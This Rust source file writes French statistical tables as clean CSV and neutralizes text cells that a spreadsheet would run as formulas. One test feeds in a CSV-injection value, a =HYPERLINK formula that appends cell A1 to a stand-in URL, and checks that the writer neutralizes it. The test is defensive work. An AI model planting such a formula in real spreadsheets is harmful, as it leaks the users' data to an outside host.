//! The clean CSV: UTF-8, comma-separated, decimal point, RFC 4180 quoting, codes as text.
//!
//! A secret cell is written `s` and a not-available one `nd`, so that neither reads as zero
//! nor as an empty cell; the metadata lists both as missing values.
//!
//! ```
//! use carnet::engine::{publish, read::workspace::Workspace};
//! let ws = Workspace::load("f.csv", "CODGEO;PIMP20\n01004;48,5\n01005;s\n".as_bytes(), &mut ()).unwrap();
//! let csv = publish::csv::write(ws.table());
//! assert_eq!(String::from_utf8(csv).unwrap(), "CODGEO,PIMP20\n01004,48.5\n01005,s\n");
//! ```

use crate::engine::csv_out::{self, CsvOut, Field};
use crate::engine::format;
use crate::engine::read::parse::{SetAside, SetAsideReason};
use crate::engine::table::{Cell, Table};

/// Writes `table` as a clean CSV; text cells a spreadsheet would run as formulas are
/// neutralized (see [`crate::engine::csv_out`]).
pub fn write(table: &Table) -> Vec<u8> {
    let mut out = CsvOut::new();
    let columns = table.columns();
    out.text_row(columns.iter().map(|c| c.name()));
    let mut record: Vec<(bool, String)> = Vec::with_capacity(columns.len());
    for row in 0..table.rows() {
        record.clear();
        record.extend(columns.iter().map(|c| {
            let cell = c.cell(row);
            (matches!(cell, Cell::Text(_)), format::plain(cell))
        }));
        out.row(record.iter().map(|(text, s)| if *text { Field::Text(s) } else { Field::Value(s) }));
    }
    out.into_bytes()
}

/// The columns of `table` whose text cells (its name included) the clean CSV neutralizes,
/// with how many in each.
pub fn neutralized(table: &Table) -> Vec<(String, usize)> {
    table
        .columns()
        .iter()
        .filter_map(|c| {
            let cells =
                (0..c.len()).filter(|&r| matches!(c.cell(r), Cell::Text(t) if csv_out::needs_apostrophe(t))).count();
            let n = cells + usize::from(csv_out::needs_apostrophe(c.name()));
            (n > 0).then(|| (csv_out::safe(c.name()).into_owned(), n))
        })
        .collect()
}

/// The rows set aside as a CSV (`ligne,raison,texte`), each reason worded by `reason`.
pub fn set_aside(rows: &[SetAside], reason: impl Fn(&SetAsideReason) -> String) -> Vec<u8> {
    let mut out = CsvOut::new();
    out.text_row(["ligne", "raison", "texte"]);
    for row in rows {
        let line = row.line.to_string();
        let reason = reason(&row.reason);
        out.row([Field::Value(&line), Field::Text(&reason), Field::Text(&row.text)]);
    }
    out.into_bytes()
}

#[cfg(test)]
mod tests {
    use crate::engine::read::workspace::Workspace;

    fn clean(input: &[u8]) -> String {
        let ws = Workspace::load("f.csv", input, &mut ()).unwrap();
        String::from_utf8(super::write(ws.table())).unwrap()
    }

    #[test]
    fn windows_1252_semicolons_decimal_commas_become_clean() {
        let input = b"CODGEO;LIBGEO;TP\r\n01001;L'Abergement-Cl\xe9menciat;12,5\r\n2A004;\"Ajaccio; Corse\";nd\r\n";
        assert_eq!(clean(input), "CODGEO,LIBGEO,TP\n01001,L'Abergement-Clémenciat,12.5\n2A004,Ajaccio; Corse,nd\n");
    }

    #[test]
    fn set_aside_rows_are_listed() {
        let ws = Workspace::load("f.csv", b"a;b\n1;2\n3\n", &mut ()).unwrap();
        let csv = super::set_aside(ws.set_aside(), |_| "décalée".to_owned());
        assert_eq!(String::from_utf8(csv).unwrap(), "ligne,raison,texte\n3,décalée,3\n");
    }

    #[test]
    fn formulas_in_text_cells_are_neutralized_numbers_are_not() {
        let input = "CODGEO;LIBGEO;SOLDE\n59522;=HYPERLINK(\"http://exemple.invalid/?\"&A1;-3,5\n59523;@SUM(1+1);2\n";
        let ws = Workspace::load("f.csv", input.as_bytes(), &mut ()).unwrap();
        let csv = String::from_utf8(super::write(ws.table())).unwrap();
        assert!(csv.contains("'=HYPERLINK") && csv.contains("'@SUM(1+1)"), "{csv}");
        assert!(csv.contains(",-3.5\n"), "a number keeps its sign: {csv}");
        assert_eq!(super::neutralized(ws.table()), [("LIBGEO".to_owned(), 2)]);
    }

    #[test]
    fn quotes_and_commas_are_quoted() {
        assert_eq!(clean(b"a;b\nx,y;\"dit \"\"z\"\"\"\n"), "a,b\n\"x,y\",\"dit \"\"z\"\"\"\n");
    }
}
